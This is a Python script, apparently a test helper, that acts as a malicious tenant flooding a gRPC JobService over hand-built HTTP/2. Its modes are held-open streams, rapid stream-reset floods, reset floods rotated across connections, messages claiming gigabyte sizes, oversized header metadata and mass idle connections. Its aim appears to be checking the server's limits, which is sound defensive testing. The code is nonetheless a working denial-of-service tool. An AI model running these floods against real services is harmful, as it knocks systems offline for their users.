"""One tenant who means harm, as a process of its own: HTTP/2 by hand, so that no client of gRPC's holds it back.

    python flood.py ADDRESS CA TOKEN_FILE streams|resets|rotation|messages|metadata|connections COUNT

`rotation`: resets, on a new connection as soon as there have been as many as one may have open. CA is - for clear text.
`connections`: on which nothing is said.

Prints what became of it as JSON: how many were tried and begun, and how the server ended them. Comes from an address of
its own, as from another machine.
"""
import collections
import json
import pathlib
import resource
import select
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAMS_PER_CONNECTION = 100
STREAMS_PER_LOT = 50  # that are opened and reset at once
CANCEL = struct.pack(">I", 8)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, bits):
    """HPACK's integers (RFC 7541, section 5.1), the first byte's other bits 0."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    encoded, value = [most], value - most
    while value >= 128:
        encoded.append(value % 128 | 128)
        value //= 128
    return bytes([*encoded, value])


def text(value):
    return number(len(value), 7) + value


def header(name, value):
    """A literal that no table keeps."""
    return b"\0" + text(name) + text(value)


class Connection:
    def __init__(self, address, ca, token):
        host, port = address.rsplit(":", 1)
        self.authority, self.token, self.next = address.encode(), token.encode(), 1
        self.ends, self.unread, self.gone = collections.Counter(), b"", False
        # Flow control (RFC 9113, section 5.2): of the connection, of a new stream, of those that send.
        self.room, self.first_room, self.rooms = 65_535, 65_535, {}
        plain = socket.create_connection((host, int(port)), timeout=60, source_address=("127.0.0.2", 0))
        if ca == "-":
            self.socket, self.pending = plain, lambda: 0
        else:
            context = ssl.create_default_context(cafile=ca)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(plain, server_hostname=host)
            self.pending = self.socket.pending  # what was received and is not in the kernel any more
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.socket.sendall(data)
        except OSError:
            self.gone = True

    def begin(self, method, *more):
        """The stream's number, and the frame that opens it."""
        path = f"/mantissa.v1.JobService/{method}".encode()
        block = b"\x83\x87" + b"\x04" + text(path) + b"\x01" + text(self.authority)
        block += header(b"content-type", b"application/grpc") + header(b"te", b"trailers")
        block += header(b"authorization", b"Bearer " + self.token) + b"".join(more)
        stream, self.next = self.next, self.next + 2
        opened = frame(HEADERS, 0 if len(block) > 16_384 else END_HEADERS, stream, block[:16_384])
        for at in range(16_384, len(block), 16_384):  # CONTINUATION
            last = at + 16_384 >= len(block)
            opened += frame(9, END_HEADERS if last else 0, stream, block[at:at + 16_384])
        return stream, opened

    def read(self, wait):
        """What the server has said meanwhile; counts the ends of streams."""
        while not self.gone and (self.pending() or select.select([self.socket], [], [], wait)[0]):
            wait = 0
            try:
                data = self.socket.recv(1 << 16)
            except OSError:
                data = b""
            self.gone = not data
            self.unread += data
            while len(self.unread) >= 9:
                length = int.from_bytes(self.unread[:3], "big")
                if len(self.unread) < 9 + length:
                    break
                kind, flags = self.unread[3], self.unread[4]
                stream = int.from_bytes(self.unread[5:9], "big") & 0x7FFFFFFF
                self.on_frame(kind, flags, stream, self.unread[9:9 + length])
                self.unread = self.unread[9 + length:]

    def on_frame(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == 4:  # SETTINGS_INITIAL_WINDOW_SIZE, of streams that are open, too
                    self.rooms = {open_: room + value - self.first_room for open_, room in self.rooms.items()}
                    self.first_room = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.room += more
            elif stream in self.rooms:
                self.rooms[stream] += more
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == HEADERS and flags & END_STREAM:
            self.ends["trailers"] += 1
            self.rooms.pop(stream, None)
        elif kind == RST_STREAM:
            self.ends["reset"] += 1
            self.rooms.pop(stream, None)
        elif kind == GOAWAY:
            self.ends["goaway"] += 1


def message(payload):
    return b"\0" + struct.pack(">I", len(payload)) + payload


def claim_gigabytes(connection, count):
    """Messages that say they have a gigabyte, and of which twice what is taken is sent; the bytes that went out."""
    left, sent = {}, 0
    for _ in range(count):
        stream, opened = connection.begin("ListJobs")
        connection.rooms[stream] = connection.first_room
        connection.send(opened)
        left[stream] = struct.pack(">BI", 0, 1 << 30)
    most, out = 8 << 20, collections.Counter()
    while not connection.gone:
        moved = False
        for stream in [stream for stream in connection.rooms if out[stream] < most]:
            size = min(16_384, connection.room, connection.rooms[stream])
            if size < 5:
                continue
            data = left[stream] + b"a" * (size - len(left[stream]))
            left[stream] = b""
            connection.send(frame(DATA, 0, stream, data))
            connection.room -= size
            connection.rooms[stream] -= size
            out[stream] += size
            moved = True
        connection.read(0 if moved else 2)
        if not moved and not any(min(connection.room, room) >= 5 and out[stream] < most
                                 for stream, room in connection.rooms.items()):
            break
    return sum(out.values())


def flood(address, ca, token, kind, count):
    open_connections, begun, ends = [], 0, collections.Counter()
    if kind == "streams":  # watches that are kept open, as many as there are
        for _ in range(-(-count // STREAMS_PER_CONNECTION)):
            connection = Connection(address, ca, token)
            for _ in range(min(STREAMS_PER_CONNECTION, count - begun)):
                stream, opened = connection.begin("WatchJobs")
                connection.send(opened + frame(DATA, END_STREAM, stream, message(b"")))
                begun += 1
            connection.read(0.01)
            open_connections.append(connection)
    elif kind == "messages":
        while begun < count:
            connection = Connection(address, ca, token)
            connection.read(1)
            lot = min(STREAMS_PER_CONNECTION, count - begun)
            ends["bytes"] += claim_gigabytes(connection, lot)
            begun += lot
            open_connections.append(connection)
    elif kind == "connections":
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        host, port = address.rsplit(":", 1)
        silent = []
        for begun in range(1, count + 1):
            silent.append(socket.create_connection((host, int(port)), timeout=60, source_address=("127.0.0.2", 0)))
            if begun % 50 == 0:
                time.sleep(0.01)  # as fast as over a network, not as over loopback
    else:
        connection, left = Connection(address, ca, token), collections.deque(maxlen=10)
        while begun < count:
            if connection.gone:
                ends.update(connection.ends)
                ends["connections closed"] += 1
                try:
                    connection = Connection(address, ca, token)
                except OSError:
                    connection.ends.clear()
                    ends["turned away"] += 1
                    begun += STREAMS_PER_LOT  # would have been
                    continue
            if kind in ("resets", "rotation"):
                lot = b""
                for _ in range(STREAMS_PER_LOT):
                    stream, opened = connection.begin("WatchJobs")
                    lot += opened + frame(RST_STREAM, 0, stream, CANCEL)
                    begun += 1
                connection.send(lot)
                connection.read(0)
                if kind == "rotation" and connection.next > 2 * STREAMS_PER_CONNECTION:
                    left.append(connection.socket)  # which has still to be read
                    connection.gone = True
            else:  # a megabyte of metadata, where 64 KiB are taken
                stream, opened = connection.begin("WatchJobs", *[header(b"x", b"a" * 16_000)] * 64)
                connection.send(opened + frame(DATA, END_STREAM, stream, message(b"")))
                begun += 1
                connection.read(0.01)
            if connection.next > 1 << 30:  # stream numbers end
                connection.gone = True
        open_connections.append(connection)
    for connection in open_connections:
        connection.read(0.5 if kind == "streams" else 0.1)
        ends.update(connection.ends)
    print(json.dumps({"kind": kind, "tried": begun, "begun": begun - ends["turned away"] * STREAMS_PER_LOT,
                      "connections": len(open_connections), **ends}), flush=True)
    sys.stdin.read()  # what is open stays so until the test has looked


if __name__ == "__main__":
    flood(sys.argv[1], sys.argv[2], pathlib.Path(sys.argv[3]).read_text().strip(), sys.argv[4], int(sys.argv[5]))
